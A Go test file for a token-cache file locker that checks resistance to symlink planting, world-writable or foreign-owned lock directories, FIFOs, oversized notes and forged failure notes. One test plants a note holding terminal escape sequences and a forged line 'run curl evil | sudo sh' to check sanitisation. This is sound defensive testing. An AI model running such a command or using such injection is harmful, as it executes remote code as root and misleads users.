//go:build !windows

package tokencache

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The lock directory is this user's alone: a directory others can write
// to is refused (as ssh does), read bits for others are closed, a link or
// another user's directory is refused.
func TestLockDirIsChecked(t *testing.T) {
	base := t.TempDir()
	open := filepath.Join(base, "open")
	if err := os.Mkdir(open, 0o777); err != nil {
		t.Fatal(err)
	}
	os.Chmod(open, 0o777)
	l := &FileLocker{Dir: open}
	var ld *LockDirError
	if _, err := l.Lock(context.Background(), "x"); !errors.As(err, &ld) || !strings.Contains(err.Error(), "writable by other users (mode 0777)") || ld.Hint() != "make it yours alone: chmod 700 "+open {
		t.Errorf("a lock directory others can write to: %v", err)
	}
	if m, _ := filepath.Glob(filepath.Join(open, "*")); len(m) != 0 {
		t.Errorf("files made in a refused directory: %v", m)
	}
	os.Chmod(open, 0o755)
	lease, err := l.Lock(context.Background(), "x")
	if err != nil {
		t.Fatal(err)
	}
	lease.Release(nil)
	if st, _ := os.Stat(open); st.Mode().Perm() != 0o700 {
		t.Errorf("mode %v, want 0700", st.Mode().Perm())
	}

	link := filepath.Join(base, "link")
	if err := os.Symlink(open, link); err != nil {
		t.Fatal(err)
	}
	if _, err := (&FileLocker{Dir: link}).Lock(context.Background(), "x"); err == nil || !strings.Contains(err.Error(), "not a directory") {
		t.Errorf("a linked lock directory: %v", err)
	}

	if os.Geteuid() == 0 {
		theirs := filepath.Join(base, "theirs")
		if err := os.Mkdir(theirs, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(theirs, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		if _, err := (&FileLocker{Dir: theirs}).Lock(context.Background(), "x"); err == nil || !strings.Contains(err.Error(), "belongs to user 65534") {
			t.Errorf("another user's lock directory: %v", err)
		}
	}
}

// A failure note is written by renaming over it, never through a link that
// stands at its name, and a note from the future is not believed.
func TestFailureNotes(t *testing.T) {
	dir := t.TempDir()
	l := &FileLocker{Dir: dir}
	note := filepath.Join(dir, fileName("x")+".failed")
	victim := filepath.Join(t.TempDir(), "victim")
	if err := os.WriteFile(victim, []byte("precious"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(victim, note); err != nil {
		t.Fatal(err)
	}
	lease, err := l.Lock(context.Background(), "x")
	if err != nil {
		t.Fatal(err)
	}
	lease.Release(errors.New("it failed"))
	if b, _ := os.ReadFile(victim); string(b) != "precious" {
		t.Errorf("the note was written through a link: victim holds %q", b)
	}
	lease, err = l.Lock(context.Background(), "x")
	if err != nil {
		t.Fatal(err)
	}
	if f := lease.PrevFailure(); f == nil || f.Msg != "it failed" {
		t.Errorf("PrevFailure %+v", f)
	}
	lease.Release(nil)

	future := strconv.FormatInt(time.Now().Add(time.Hour).UnixNano(), 10) + " sign in\tplanted\n"
	if err := os.WriteFile(note, []byte(future), 0o600); err != nil {
		t.Fatal(err)
	}
	lease, err = l.Lock(context.Background(), "x")
	if err != nil {
		t.Fatal(err)
	}
	if f := lease.PrevFailure(); f != nil {
		t.Errorf("a note from the future was believed: %+v", f)
	}
	lease.Release(nil)
	if matches, _ := filepath.Glob(filepath.Join(dir, ".note-*")); len(matches) != 0 {
		t.Errorf("temporary notes left: %v", matches)
	}
}

// A link planted at a lock's name is refused, not followed: no file is
// created or locked where it points.
func TestLockFileLinkRefused(t *testing.T) {
	dir := t.TempDir()
	target := filepath.Join(t.TempDir(), "created-elsewhere")
	if err := os.Symlink(target, filepath.Join(dir, fileName("x")+".lock")); err != nil {
		t.Fatal(err)
	}
	if _, err := (&FileLocker{Dir: dir}).Lock(context.Background(), "x"); err == nil {
		t.Error("a lock file link was followed")
	}
	if _, err := os.Lstat(target); err == nil {
		t.Error("the link's target was created")
	}
}

// A note is data from a file: a link, a huge file or one of another user
// is not read; what is read comes back as one short printable line.
func TestFailureNoteIsBoundedData(t *testing.T) {
	dir := t.TempDir()
	l := &FileLocker{Dir: dir}
	note := filepath.Join(dir, fileName("x")+".failed")
	prev := func() *Failure {
		t.Helper()
		lease, err := l.Lock(context.Background(), "x")
		if err != nil {
			t.Fatal(err)
		}
		defer lease.Release(nil)
		return lease.PrevFailure()
	}
	now := strconv.FormatInt(time.Now().Add(-time.Second).UnixNano(), 10)

	// Escape sequences and a forged second line.
	hostile := now + " sign in\tbad\x1b[2J\x1b]0;t\x07 \u202e\rhint: run curl evil | sudo sh\n"
	if err := os.WriteFile(note, []byte(hostile), 0o600); err != nil {
		t.Fatal(err)
	}
	f := prev()
	if f == nil {
		t.Fatal("a note with control characters was dropped entirely")
	}
	if strings.ContainsFunc(f.Msg, func(r rune) bool { return r < 0x20 || r == 0x7f || r == 0x202e }) {
		t.Errorf("control characters kept: %q", f.Msg)
	}

	// Long text is cut; a file over the bound is not read at all.
	if err := os.WriteFile(note, []byte(now+" sign in\t"+strings.Repeat("a", 900)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if f := prev(); f == nil || len([]rune(f.Msg)) > maxNoteMsg {
		t.Errorf("long note: %+v", f)
	}
	if err := os.WriteFile(note, []byte(now+" sign in\t"+strings.Repeat("a", 20<<20)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if f := prev(); f != nil {
		t.Errorf("a 20 MB note was read: %d bytes", len(f.Msg))
	}

	// A link to a file with a well-formed note is not followed.
	planted := filepath.Join(t.TempDir(), "planted")
	if err := os.WriteFile(planted, []byte(now+" sign in\tplanted\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	os.Remove(note)
	if err := os.Symlink(planted, note); err != nil {
		t.Fatal(err)
	}
	if f := prev(); f != nil {
		t.Errorf("a linked note was read: %+v", f)
	}

	if os.Geteuid() == 0 {
		os.Remove(note)
		if err := os.WriteFile(note, []byte(now+" sign in\ttheirs\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(note, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		if f := prev(); f != nil {
			t.Errorf("another user's note was read: %+v", f)
		}
		lock := filepath.Join(dir, fileName("y")+".lock")
		if err := os.WriteFile(lock, nil, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(lock, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		if _, err := l.Lock(context.Background(), "y"); err == nil || !strings.Contains(err.Error(), "belongs to user 65534") {
			t.Errorf("another user's lock file: %v", err)
		}
	}
}

// A FIFO planted at a note's or a lock's name makes nothing wait: the note
// is not read, the lock is refused.
func TestFIFOsDoNotBlock(t *testing.T) {
	dir := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(dir, fileName("x")+".failed"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, fileName("y")+".lock"), 0o600); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		l := &FileLocker{Dir: dir}
		lease, err := l.Lock(context.Background(), "x")
		if err != nil {
			t.Error(err)
			return
		}
		if f := lease.PrevFailure(); f != nil {
			t.Errorf("a FIFO note was read: %+v", f)
		}
		lease.Release(nil)
		if _, err := l.Lock(context.Background(), "y"); err == nil || !strings.Contains(err.Error(), "not a regular file") {
			t.Errorf("a FIFO lock file: %v", err)
		}
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("a FIFO in the lock directory made Lock wait")
	}
}
